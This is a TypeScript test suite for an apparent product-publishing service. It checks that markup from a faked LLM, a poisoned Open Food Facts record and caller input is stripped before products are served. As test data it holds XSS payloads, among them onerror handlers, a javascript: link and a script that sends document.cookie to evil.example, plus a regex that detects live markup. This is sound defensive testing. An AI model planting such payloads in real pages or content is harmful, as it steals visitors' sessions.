import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { CountryContent } from '../../src/domain/content.ts';
import type { FakeLlmServer } from '../fakes/llm/fake-llm.ts';
import { startFakeOpenAiCompatible } from '../fakes/llm/openai-compatible-server.ts';
import { productWriter, writeRecord } from '../fakes/llm/product-writer.ts';
import { startFakeOpenFoodFacts, type FakeOpenFoodFacts } from '../fakes/open-food-facts-server.ts';
import { validEans } from '../helpers/codes.ts';
import { databaseTargets } from '../helpers/databases.ts';
import { startHarness, type Harness } from '../helpers/harness.ts';

// Everything Vetrina publishes is plain text: markup a model writes, a source (shared by every
// account through the source cache) carries or a caller sends never reaches a served product.

type Product = CountryContent & {
  validation_messages: string[];
  state: string;
  brand: string | null;
  sku: string | null;
  facts: Array<{ id: string; source: string; key: string; value: string }>;
};

/** Markup that would run in a shop page that showed the text unescaped. */
const LIVE_MARKUP = /<\s*(script|img|iframe|a\b|b\b|svg)|onerror|javascript:/i;

function assertPlain(product: Product): void {
  const served = JSON.stringify(product);
  assert.doesNotMatch(served, LIVE_MARKUP, served);
}

const [OFF_CODE = ''] = validEans(1, 4711);

/** An Open Food Facts v3 answer whose crowd-edited name and brand carry markup. */
const POISONED_RECORD = {
  code: OFF_CODE,
  errors: [],
  status: 'success',
  result: { id: 'product_found' },
  product: {
    code: OFF_CODE,
    product_type: 'food',
    lang: 'it',
    lc: 'it',
    product_name: 'Spaghetti <img src=x onerror=alert(1)>n.5',
    product_name_languages: { it: 'Spaghetti <img src=x onerror=alert(1)>n.5' },
    brands: 'Barilla<script>alert(document.cookie)</script>',
    quantity: '500 g',
    categories: 'Pasta',
    categories_lc: 'it',
  },
};

for (const target of databaseTargets()) {
  describe(`markup never reaches a published product: a model and a source [${target.name}]`, () => {
    let h: Harness;
    let fake: FakeLlmServer;
    let off: FakeOpenFoodFacts;
    before(async () => {
      fake = await startFakeOpenAiCompatible({ script: productWriter(), apiKey: 'local-key' });
      off = await startFakeOpenFoodFacts({ records: { [OFF_CODE]: POISONED_RECORD } });
      h = await startHarness(target, {
        env: {
          AGENT_V1_MODEL: 'openai-compatible:llama3.1:8b',
          AGENT_V1_BASE_URL: fake.baseURL,
          AGENT_V1_API_KEY: 'local-key',
          SOURCES: 'open_food_facts',
          OPEN_FOOD_FACTS_URL: off.url,
          GENERATION_RETRIES: '1',
        },
        agentBackoffMs: () => 10,
      });
    });
    after(async () => {
      await h.close();
      await fake.close();
      await off.close();
    });

    async function createAndRead(token: string, body: Record<string, unknown>): Promise<Product> {
      const id = await h.createSettled(token, body);
      const read = await h.get(`/api/v1/products/details/${id}`, token);
      assert.equal(read.statusCode, 200, read.body);
      return read.json<{ product: Product }>().product;
    }

    test('a model answering with <script>, <img onerror>, <a href="javascript:"> and <iframe>: plain text is stored and served, and the record says what was removed', async () => {
      fake.setScript(
        productWriter((call) => {
          if (call.step !== 'generate') return undefined;
          return {
            kind: 'json',
            value: {
              records: call.targets.map((t) => {
                const record = writeRecord(call, t);
                const [first, ...rest] = record.key_features;
                return {
                  ...record,
                  title: { ...record.title, text: `<a href="javascript:alert(1)">${record.title.text}</a>` },
                  short_description: { ...record.short_description, text: `<img src=x onerror="alert(1)">${record.short_description.text}` },
                  description: { ...record.description, text: `${record.description.text}<script>fetch('https://evil.example/'+document.cookie)</script>` },
                  key_features: first === undefined ? rest : [{ ...first, text: `${first.text}<iframe src="https://evil.example/"></iframe>` }, ...rest],
                };
              }),
            },
          };
        }),
      );
      const { token } = await h.account();
      const product = await createAndRead(token, {
        title: 'Spaghetti n.5',
        brand: 'Barilla',
        description: 'Pasta di semola di grano duro. Confezione da 500 g.',
        countries: ['it'],
        agent_model: 'v1',
      });
      assert.equal(product.state, 'completed');
      assertPlain(product);
      assert.match(product.title ?? '', /^Barilla Spaghetti n\.5/, 'the link text is kept');
      assert.match(product.description ?? '', /\S/, 'the description keeps its text');
      assert.ok(product.validation_messages.includes('Markup was removed from the description (script).'), product.validation_messages.join('\n'));
      assert.ok(product.validation_messages.includes('Markup was removed from the title (a).'), product.validation_messages.join('\n'));
      assert.ok(product.validation_messages.includes('Markup was removed from the short_description (img).'), product.validation_messages.join('\n'));
      assert.ok(product.validation_messages.includes('Markup was removed from the key_features (iframe).'), product.validation_messages.join('\n'));
      // The same findings as data: a client places each by its field, without reading the sentence.
      const markup = product.validation_issues.filter((i) => i.check === 'markup').map((i) => i.field);
      assert.deepEqual(markup.sort(), ['description', 'key_features', 'short_description', 'title'], JSON.stringify(product.validation_issues));
    });

    test('an Open Food Facts product whose name and brand carry markup: plain in the facts and the record, which says what was removed', async () => {
      fake.setScript(productWriter());
      const { token } = await h.account();
      const product = await createAndRead(token, { codes: OFF_CODE, countries: ['it'], agent_model: 'v1' });
      assert.equal(product.state, 'completed');
      assertPlain(product);
      const name = product.facts.find((f) => f.source === 'open_food_facts' && f.key === 'name');
      assert.equal(name?.value, 'Spaghetti n.5');
      assert.equal(product.facts.find((f) => f.source === 'open_food_facts' && f.key === 'brand')?.value, 'Barilla');
      assert.match(product.title ?? '', /Barilla Spaghetti n\.5/);
      assert.ok(product.validation_messages.includes('Markup was removed from the data of source open_food_facts (img, script).'), product.validation_messages.join('\n'));
      assert.deepEqual(
        product.validation_issues.find((i) => i.message.startsWith('Markup was removed from the data of source')),
        { field: null, check: 'markup', message: 'Markup was removed from the data of source open_food_facts (img, script).' },
        "a source's data is no field of the record",
      );
    });
  });

  describe(`markup never reaches a published product: the caller's data [${target.name}]`, () => {
    let h: Harness;
    before(async () => {
      h = await startHarness(target, { env: { SOURCES: 'catalogue' } });
    });
    after(async () => {
      await h.close();
    });

    test('caller data with entity-encoded markup comes out with no tag anywhere, and plain text stays as written', async () => {
      const { token } = await h.account();
      const id = await h.createSettled(token, {
        sku: 'tom-&amp;-jerry',
        title: 'Tom & Jerry &lt;script&gt;alert(1)&lt;/script&gt;Snack',
        brand: 'Acme&lt;img src=x onerror=alert(1)&gt;',
        description: 'Snack croccante. &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt; Meno di < 5 % fat; 3 > 2. Confezione da 100 g.',
        countries: ['it'],
      });
      const read = await h.get(`/api/v1/products/details/${id}`, token);
      assert.equal(read.statusCode, 200, read.body);
      const product = read.json<{ product: Product }>().product;
      assert.equal(product.state, 'completed');
      const served = JSON.stringify(product);
      assert.doesNotMatch(served, /<script|<img|onerror|&lt;script/i, served);
      assert.equal(product.brand, 'Acme');
      assert.equal(product.sku, 'tom-&-jerry');
      const description = product.facts.find((f) => f.source === 'caller' && f.key === 'description')?.value ?? '';
      assert.match(description, /Meno di < 5 % fat; 3 > 2\./, 'a "<" that opens no tag is text');
      assert.match(product.title ?? '', /Tom & Jerry/);
    });
  });
}
